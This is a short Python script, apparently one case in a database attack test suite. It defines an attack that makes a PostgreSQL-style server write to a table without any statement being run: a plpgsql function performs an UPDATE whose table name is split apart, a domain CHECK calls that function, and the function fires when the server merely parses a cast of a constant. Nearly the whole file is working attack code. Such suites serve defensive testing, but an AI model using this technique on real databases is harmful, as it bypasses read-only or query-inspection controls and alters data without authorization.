"""Writes by a check on a constant of a statement that is prepared and never run."""

from attacks.frames import SYNC, ask, parse, query
from attacks.talking import Server

WANTS = "write"


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(
            client,
            query(
                b"CREATE FUNCTION look(int) RETURNS bool LANGUAGE plpgsql AS"
                b" $$ BEGIN EXECUTE 'UPDATE vl' || 't_account SET amount = 1'; RETURN true; END $$"
            ),
        )
        ask(client, query(b"CREATE DOMAIN seen AS int CHECK (look(VALUE))"))
        ask(client, query(b"CREATE TYPE pair AS (a seen)"))
        return ask(client, parse(b"SELECT '(1)'::pair"), SYNC)
